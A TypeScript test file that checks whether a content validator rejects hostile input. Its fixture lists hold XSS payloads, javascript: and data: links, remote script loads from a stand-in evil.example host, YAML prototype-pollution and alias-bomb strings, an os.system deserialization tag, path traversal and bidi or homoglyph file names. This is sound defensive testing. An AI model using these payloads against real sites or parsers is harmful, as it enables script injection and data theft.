import { expect, test } from "vitest";
import { checkRoot } from "./check-root.ts";
import { problemsText } from "./format-problems.ts";
import { ENTRY, rootWith } from "./root.fixture.ts";

/** Lines of prose that a browser, a feed reader or the Markdown processor could take for more than text. */
const PROSE = [
	"<script>alert(1)</script>",
	"a <ScRiPt\tsrc=//evil.example/x.js></script>",
	"<img src=x onerror=alert(1)>",
	"<svg onload=alert(1)>",
	"<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
	"<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x /></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	"<iframe src=https://evil.example/></iframe>",
	"<form action=https://evil.example/><button>x</button></form>",
	"<base href=https://evil.example/>",
	"<meta http-equiv=refresh content=0;url=https://evil.example/>",
	"<link rel=stylesheet href=https://evil.example/x.css>",
	"<style>@import url(https://evil.example/x.css)</style>",
	"<div onclick=alert(1)>x</div>",
	"<a href=javascript:alert(1)>x</a>",
	"<!-- <script>alert(1)</script> -->",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?xml version=1.0?>",
	"<https://evil.example/>",
	"<javascript:alert(1)>",
	"`<img src=x onerror=alert(1)>`",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"[x](javascript&colon;alert(1))",
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](java&#09;script:alert(1))",
	"[x](< javascript:alert(1)>)",
	"[x](<\tjavascript:alert(1)>)",
	"[x](< java\tscript:alert(1)>)",
	"[x](\\javascript:alert(1))",
	"[x](java\\script:alert(1))",
	"[x](javascript\\:alert(1))",
	"[x](\\j\\avascript:alert(1))",
	"[x](vbscript:msgbox)",
	"[x](data:text/html,x)",
	"[x](data:image/svg+xml,x)",
	"[x](data:,x)",
	"[x](blob:https://evil.example/1)",
	"[x](file:///etc/passwd)",
	"[x](//evil.example/)",
	"[x](\\\\evil.example/)",
	"[x](/\\evil.example/)",
	"[x](/%5cevil.example/)",
	"[x](http://evil.example/)",
	"[x](HTTPS:evil.example)",
	"[x](https://user@evil.example/)",
	"[x](https://localhost/x)",
	"[x](https://g\u0456thub.com/x)",
	"[x](../../../etc/passwd)",
	"[x](/meshes/../../etc/passwd)",
	'[x](//evil.example/ "title")',
	"[x](javascript:alert(1) 'title')",
	"[![x](https://evil.example/x.png)](/compare/)",
	"![x](https://evil.example/x.png)",
	"![x](data:image/png;base64,AAAA)",
	"![x][pixel]",
	"[pixel]: javascript:alert(1)",
	"[pixel]: <javascript:alert(1)>",
	"[pixel]: //evil.example/x.png",
	"[pixel]:\n    javascript:alert(1)",
	"> [pixel]: javascript:alert(1)",
	"- [pixel]: data:text/html,x",
	"[^1]: [x](javascript:alert(1))",
	"| [x](javascript:alert(1)) | y |",
	"# [x](javascript:alert(1))",
	"**[x](javascript:alert(1))**",
	"~~[x](data:text/html,x)~~",
	"[a [b](javascript:alert(1)) c](/compare/)",
	"[x\ny](javascript:alert(1))",
	"[x](\njavascript:alert(1)\n)",
	"plain \u202ethgir ot tfel",
	"zero\u200bwidth",
	"null\u0000byte",
	"bell\u0007 and \u001b[31mescape",
	"line\u2028separator",
	"soft\u00adhyphen",
	"interlinear \ufff9x\ufffay\ufffb",
	"tag \u{e0041}\u{e0042} signs",
	"mongolian\u180evowel",
	"variation \u{e0101} selector",
	"mark\ufeffinside",
];

/** A line in place of the summary, or after it, of an entry. */
const YAML = [
	"__proto__: { polluted: true }",
	'"__proto__": { polluted: true }',
	'"\\x5f_proto__": { polluted: true }',
	"constructor: { prototype: { polluted: true } }",
	"prototype: { polluted: true }",
	"toString: x",
	"hasOwnProperty: x",
	"capabilities: { __proto__: { level: full } }",
	"capabilities: { constructor: { level: full } }",
	"capabilities: { toString: { level: full } }",
	"capabilities: { ../../x: { level: full } }",
	'capabilities: { "<script>": { level: full } }',
	"open_questions: { __proto__: { note: x } }",
	"a: &a [x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]",
	"a: &a { x: *a }",
	"<<: { name: x }",
	"<<: *base",
	"note: !!js/function 'function () {}'",
	"note: !!python/object/apply:os.system [x]",
	"note: !<tag:yaml.org,2002:binary> PHN2Zz4=",
	"? { a: b }\n: c",
	"? [a]\n: c",
	"? <script>\n: c",
	'note: "\\u202ex"',
	'note: "\\0"',
	'note: "\\x1b[31m"',
	'note: "\\ud800"',
	"--- \nname: second document",
	"%TAG ! tag:evil.example,2026:",
	`deep: ${"[".repeat(200)}`,
	`deep: ${"{ a: ".repeat(200)}`,
	`deep:${"\n".repeat(1)}${Array.from({ length: 80 }, (_none, at) => `${" ".repeat(at + 1)}a:`).join("\n")}`,
	"data_plane: [../../etc/passwd]",
	"data_plane: [a/b]",
	"data_plane: [..]",
	"data_plane: ['%2e%2e']",
	"data_plane: [__proto__]",
	"data_plane: [constructor]",
	"built_on: [C:\\x]",
	"aliases: [\u202eevil]",
	"aliases: ['\u0430\u200b']",
	"languages: [null]",
	"languages: [{ toString: x }]",
	"license: 0x1F",
	"license: .nan",
	"latest_release: { version: 1e999, date: 2026-01-01, source: https://a.io/x }",
];

/** Names of files, for entries and chapters. */
const NAMES = [
	"content/meshes/__proto__.yaml",
	"content/meshes/constructor.yaml",
	"content/meshes/index.yaml",
	"content/meshes/con.yaml",
	"content/meshes/..yaml",
	"content/meshes/...yaml",
	"content/meshes/a b.yaml",
	"content/meshes/A.yaml",
	"content/meshes/a%2fb.yaml",
	"content/meshes/a\\b.yaml",
	"content/meshes/\u202eb.yaml",
	"content/meshes/\u0430.yaml",
	"content/meshes/<script>.yaml",
	"content/meshes/a'b\"c.yaml",
	"content/meshes/a\nb.yaml",
	"content/meshes/-a.yaml",
	"content/meshes/none.yaml",
	"content/meshes/sub/a.yaml",
	"content/meshes/a.yaml.exe",
	"content/meshes/a.html",
	"content/meshes/a.svg",
	"content/guide/a.html",
	"content/guide/01-x.mdx",
	"content/guide/01-<b>.md",
	"data/benchmarks/yours.yaml",
	"data/benchmarks/a.php",
	"data/evil.js",
	"data/conformance/gateway-api/..%2f/a.yaml",
];

/** Whole files by their bytes. */
const BYTES: Readonly<Record<string, Buffer>> = {
	zip: Buffer.from("504b0304140000000800", "hex"),
	gzip: Buffer.from("1f8b0800000000000003", "hex"),
	elf: Buffer.from("7f454c4602010100", "hex"),
	png: Buffer.from("89504e470d0a1a0a", "hex"),
	utf16: Buffer.from("\ufeffname: x", "utf16le"),
	latin1: Buffer.from([0x6e, 0x3a, 0x20, 0xe9, 0x0a]),
	overlong: Buffer.from([0x6e, 0x3a, 0x20, 0xc0, 0xbc, 0x0a]),
	surrogate: Buffer.from([0x6e, 0x3a, 0x20, 0xed, 0xa0, 0x80, 0x0a]),
	zeroes: Buffer.alloc(1_000),
	empty: Buffer.alloc(0),
	spaces: Buffer.from(" \n".repeat(1_000)),
	large: Buffer.alloc(300_000, "#"),
	brackets: Buffer.from("[".repeat(200_000)),
	quotes: Buffer.from('"'.repeat(200_000)),
	anchors: Buffer.from(
		Array.from({ length: 5_000 }, (_none, at) => `a${at}: &a${at} x`).join("\n"),
	),
	keys: Buffer.from(Array.from({ length: 20_000 }, (_none, at) => `a${at}: 1`).join("\n")),
	scalar: Buffer.from("just words\n"),
	list: Buffer.from("- a\n- b\n"),
	html: Buffer.from("<!doctype html><script>alert(1)</script>"),
	json: Buffer.from('{"__proto__":{"polluted":true}}'),
};

const two = (at: number) => String(at).padStart(2, "0");
const CHAPTER = "---\ntitle: A chapter\n---\n";
const PROSE_FILES = PROSE.map((prose, at) => {
	return {
		prose,
		file: `content/guide/${two(at + 1)}-chapter.md`,
		text: `${CHAPTER}\nWords.\n\n${prose}\n`,
	};
});
const YAML_FILES = YAML.map((yaml, at) => {
	return {
		yaml,
		file: `content/tools/case-${two(at)}.yaml`,
		text: `name: Case ${at}\n${ENTRY}${yaml}\n`,
	};
});
const BYTE_FILES = Object.entries(BYTES).map(([name, bytes]) => {
	return { name, file: `content/proxies/case-${name}.yaml`, bytes };
});

function problems() {
	using root = rootWith({
		...Object.fromEntries(PROSE_FILES.map(({ file, text }) => [file, text])),
		...Object.fromEntries(YAML_FILES.map(({ file, text }) => [file, text])),
		...Object.fromEntries(BYTE_FILES.map(({ file, bytes }) => [file, bytes])),
		...Object.fromEntries(NAMES.map((name, at) => [name, `name: Named ${at}\n${ENTRY}`])),
	});
	const found = checkRoot(root.path, "2026-11-28").problems;
	return Map.groupBy(
		found.filter(({ severity }) => severity === "error"),
		({ file }) => file,
	);
}

const FOUND = problems();

test("a hostile line of prose is refused at its place", () => {
	const first = CHAPTER.split("\n").length + 2;
	const missed = PROSE_FILES.filter(
		({ file, prose }) =>
			!(FOUND.get(file) ?? []).some(
				({ line }) => line >= first && line <= first + prose.split("\n").length,
			),
	);
	expect(missed.map(({ prose }) => prose)).toEqual([]);
});

test("a hostile line of data is refused at its place", () => {
	const first = `name: x\n${ENTRY}`.split("\n").length;
	const missed = YAML_FILES.filter(
		({ file }) => !(FOUND.get(file) ?? []).some(({ line }) => line >= first),
	);
	expect(missed.map(({ yaml }) => yaml)).toEqual([]);
	expect(Object.hasOwn(Object.prototype, "polluted")).toBe(false);
});

test("a file that is not one of ours is refused by its name or by its bytes", () => {
	expect(NAMES.filter((name) => !FOUND.has(name))).toEqual([]);
	expect(BYTE_FILES.filter(({ file }) => !FOUND.has(file)).map(({ name }) => name)).toEqual([]);
});

test("no message or place of a hostile file steers a terminal", () => {
	// biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is what this is for.
	const steering = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
	const lines = problemsText(1, [...FOUND.values()].flat()).split("\n");
	expect(lines.filter((line) => steering.test(line))).toEqual([]);
});
